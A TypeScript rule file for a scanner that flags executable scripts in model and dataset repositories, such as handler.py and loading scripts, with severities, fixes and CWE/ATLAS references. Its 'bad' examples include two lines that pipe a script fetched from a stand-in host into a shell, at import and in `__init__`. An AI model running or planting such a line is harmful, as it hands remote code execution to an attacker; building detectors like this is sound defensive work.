const CWE_94 = { id: 'CWE-94', url: 'https://cwe.mitre.org/data/definitions/94.html' } as const;
const CWE_829 = { id: 'CWE-829', url: 'https://cwe.mitre.org/data/definitions/829.html' } as const;
const SUPPLY_CHAIN = { id: 'OWASP-LLM03' } as const;
const UNSAFE_ARTIFACT = {
  id: 'AML.T0011',
  url: 'https://atlas.mitre.org/techniques/AML.T0011',
} as const;

const WHY =
  'The loader finds the file by its name or by what it defines, and runs it with the rights of whoever loads or serves the repository.';

export const RULES = {
  'script-runs': {
    title: 'Script of a repository runs commands or programs when its loader imports it',
    severity: 'critical',
    message: '{file} is run by {loader}: on import, {where} calls {callee}, which {does}',
    why: `${WHY} Importing it is enough for this call. Serving a model or reading data needs neither commands nor connections nor code from text before there is anything to serve or read.`,
    fix: 'Do not load or deploy the repository. If it was loaded, treat the machine as taken over, and report the repository.',
    references: [UNSAFE_ARTIFACT, CWE_94, SUPPLY_CHAIN],
    example: {
      bad: 'handler.py: os.system("curl example.test | sh") at module level',
      good: 'handler.py: a class that defines __call__',
    },
  },
  'script-acts': {
    title: 'Script of a repository does more on import than define things',
    severity: 'high',
    message: '{file} is run by {loader}: on import, {where} calls {callee}, which {does}',
    why: `${WHY} Importing it is enough for this call, before anything is served or read.`,
    fix: 'Read the call and what it is given. Load the repository only in a sandbox until you know what it is for.',
    references: [UNSAFE_ARTIFACT, CWE_94],
    example: {
      bad: 'handler.py: torch.load("cache.bin") at module level',
      good: 'handler.py: classes and functions only',
    },
  },
  'script-method-runs': {
    title: 'Script of a repository runs commands or programs when it is used',
    severity: 'high',
    message: '{file} is run by {loader}: {method} in {where} calls {callee}, which {does}',
    why: `${WHY} The loader calls this method. Neither serving a model nor reading data needs commands or code from text.`,
    fix: 'Do not load or deploy the repository before you have read the call.',
    references: [UNSAFE_ARTIFACT, CWE_94, SUPPLY_CHAIN],
    example: {
      bad: 'def __init__(self, path): os.system("curl example.test | sh")',
      good: 'def __init__(self, path): self.model = pipeline(model=path)',
    },
  },
  'script-can-run': {
    title: 'Script of a repository can run commands or programs',
    severity: 'medium',
    message:
      '{file} is run by {loader}: {method} in {where} calls {callee}, which {does}; what calls it is not known',
    why: `${WHY} Nothing was found that calls this function, but attributes, subclasses and the loader itself can.`,
    fix: 'Read the call, what it is given, and who calls it, before you load or deploy the repository.',
    references: [CWE_94, SUPPLY_CHAIN],
    example: {
      bad: 'def convert(path): subprocess.run(["ffmpeg", "-i", path])',
      good: 'def convert(path): return soundfile.read(path)',
    },
  },
  'server-code': {
    title: 'Model brings the code that serves or generates with it',
    severity: 'medium',
    message: '{file} is run by {loader}; {found}',
    why: WHY,
    fix: 'Read the file, and pin the revision that you have read.',
    references: [CWE_829, SUPPLY_CHAIN],
    example: { bad: 'handler.py in the repository', good: 'weights and configurations only' },
  },
  'loading-script': {
    title: 'Repository brings a script that loads it',
    severity: 'low',
    message: '{file} is run by {loader}; {found}',
    why: WHY,
    fix: 'Read the file, and pin the revision that you have read. For data, prefer Parquet, which needs no script.',
    references: [CWE_829, SUPPLY_CHAIN],
    example: { bad: 'squad.py beside the data', good: 'data/train.parquet' },
  },
} as const;
